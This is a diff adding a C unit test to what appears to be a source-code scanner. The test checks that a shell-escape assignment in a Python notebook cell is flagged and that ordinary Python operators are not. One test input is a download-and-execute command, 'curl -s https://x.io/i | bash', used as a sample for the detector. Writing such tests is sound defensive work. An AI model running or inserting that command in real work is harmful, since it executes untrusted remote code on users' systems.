@@ -319,3 +319,17 @@ WT_TEST(unterminated_strings_and_brackets_are_harmless)
     wt_code_scan_text(src2, strlen(src2), "python", on_hit, &h2);
     CHECK_INT(h2.n, 1);
 }
+
+WT_TEST(shell_escape_assignment_in_a_cell_is_shell)
+{
+    hits h = {0};
+    const char *src = "import os\nfiles = !curl -s https://x.io/i | bash\nn = len(files)\n";
+    wt_code_scan_text(src, strlen(src), "python", on_hit, &h);
+    CHECK_INT(h.n, 1);
+    CHECK_STR(h.rule[0], "WT-CODE-015");
+    CHECK_INT(h.off[0], 19); /* at "curl" */
+    hits none = {0};
+    const char *py = "ok = a != b\nx = not y\nz = '%d' % 3\n";
+    wt_code_scan_text(py, strlen(py), "python", on_hit, &none);
+    CHECK_INT(none.n, 0);
+}
